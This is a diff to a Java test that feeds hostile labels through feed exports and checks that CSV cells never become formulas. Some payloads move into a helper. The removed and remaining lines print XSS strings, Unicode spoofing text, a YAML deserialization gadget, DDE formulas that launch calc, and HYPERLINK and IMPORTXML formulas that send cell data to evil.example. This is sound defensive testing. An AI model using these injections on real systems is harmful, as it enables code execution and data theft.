@@ -17,6 +17,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
 import java.util.Random;
+import java.util.stream.Stream;
 import javax.xml.XMLConstants;
 import javax.xml.parsers.DocumentBuilderFactory;
 import org.junit.jupiter.api.Test;
@@ -24,6 +25,7 @@ import org.plainsight.asset.AccountId;
 import org.plainsight.disclosure.Attribution;
 import org.plainsight.disclosure.Attribution.Claim;
 import org.plainsight.feed.export.LabelExport;
+import org.plainsight.testing.HostileTexts;
 import org.plainsight.testing.TestClaim;
 import org.w3c.dom.Document;
 import org.yaml.snakeyaml.LoaderOptions;
@@ -32,48 +34,21 @@ import org.yaml.snakeyaml.LoaderOptions;
 class HostileLabelsTest {
 
     private static final FeedHead HEAD = new FeedHead(70, Instant.parse("2026-11-22T10:00:00Z"), "ab".repeat(32));
-    private static final List<String> MARKUP = List.of(
-            "<script>alert(1)</script>",
-            "\"><img src=x onerror=alert(1)>",
-            "</summary></entry></feed><x xmlns=\"",
-            "]]>&lt;![CDATA[",
-            "javascript:alert(1)//",
-            "' onmouseover='alert(1)",
-            "{{7*7}}${7*7}#{7*7}",
-            "&#x0;&undefined;",
-            "\u202etxt.exe\u202c",
-            "\u2066admin\u2069",
-            "\u0430cme \u0405xchange",
-            "a\u200b\u200c\u200d\ufeffb",
+    private static final List<String> UNSEEN = List.of(
             "\u0000\u0001\u001f\u007f\u0085",
-            "line\u2028sep\u2029end",
             "\r\nindex,id\r\n0,x",
             "\n- address: x\n  label: y",
             "!!javax.script.ScriptEngineManager [x]",
             "&a [*a,*a]",
             "\"\nACCOUNTS = [",
             "\ud83d\udca3\u0301\u0327\u0344");
-    private static final List<String> FORMULAS = List.of(
-            "=cmd|' /C calc'!A0",
-            "+1+1",
-            "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1",
-            "\r=1+1",
-            "\n=1+1",
-            " =1+1",
-            "\u00a0=1+1",
-            "\u3000=1+1",
-            "＝1+1",
-            "＋1+1",
-            "－1+1",
-            "＠SUM(1)",
-            "'=1+1",
-            "\u0000=1+1",
-            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
-            "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
-            ";=1+1",
-            "\u200b=1+1");
+
+    private static List<String> markup() {
+        return Stream.of(HostileTexts.RUN, HostileTexts.HIDE, HostileTexts.LOOK_ALIKE, UNSEEN)
+                .flatMap(List::stream)
+                .map(text -> text.replace("%d", "1"))
+                .toList();
+    }
 
     private static List<String> payloads(List<String> seeds, int count) {
         Random random = new Random(8);
@@ -148,7 +123,7 @@ class HostileLabelsTest {
 
     @Test
     void two_thousand_labels_come_back_from_json_ndjson_csv_and_every_json_export_as_they_were() throws Exception {
-        List<String> payloads = payloads(MARKUP, 2_000);
+        List<String> payloads = payloads(markup(), 2_000);
         List<FeedEntry> entries = entries(payloads);
         ObjectMapper json = new ObjectMapper();
         JsonNode all = json.readTree(feed(FeedFormat.JSON, entries)).path("addresses");
@@ -176,7 +151,7 @@ class HostileLabelsTest {
 
     @Test
     void two_thousand_labels_break_no_atom_feed_no_tag_pack_and_no_toml() throws Exception {
-        List<String> payloads = payloads(MARKUP, 2_000);
+        List<String> payloads = payloads(markup(), 2_000);
         List<FeedEntry> entries = entries(payloads);
         DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
         factory.setNamespaceAware(true);
@@ -207,7 +182,7 @@ class HostileLabelsTest {
 
     @Test
     void no_cell_of_any_csv_is_a_formula_for_two_hundred_payloads_and_programs_get_the_text_back() throws Exception {
-        List<String> payloads = payloads(FORMULAS, 200);
+        List<String> payloads = HostileTexts.formulas();
         List<FeedEntry> entries = entries(payloads);
         for (String text : List.of(
                 feed(FeedFormat.CSV, entries),
@@ -218,7 +193,7 @@ class HostileLabelsTest {
             assertThat(rows.size()).isGreaterThan(40);
             for (CsvRecord row : rows) {
                 for (String cell : row.getFields()) {
-                    assertThat(isFormula(cell)).as(cell).isFalse();
+                    assertThat(HostileTexts.isFormula(cell)).as(cell).isFalse();
                 }
             }
         }
@@ -226,11 +201,5 @@ class HostileLabelsTest {
         for (int i = 0; i < payloads.size(); i++) {
             assertThat(unguarded(rows.get(i + 1).getField(4))).isEqualTo(payloads.get(i));
         }
-    }
-
-    /** As the spreadsheets decide: by the first character that shows. */
-    private static boolean isFormula(String cell) {
-        String shown = cell.replaceAll("^[\\s\\p{Z}\\p{Cf}\\p{Cntrl}]+", "");
-        return !shown.isEmpty() && "=+-@＝＋－＠".indexOf(shown.charAt(0)) >= 0;
     }
 }
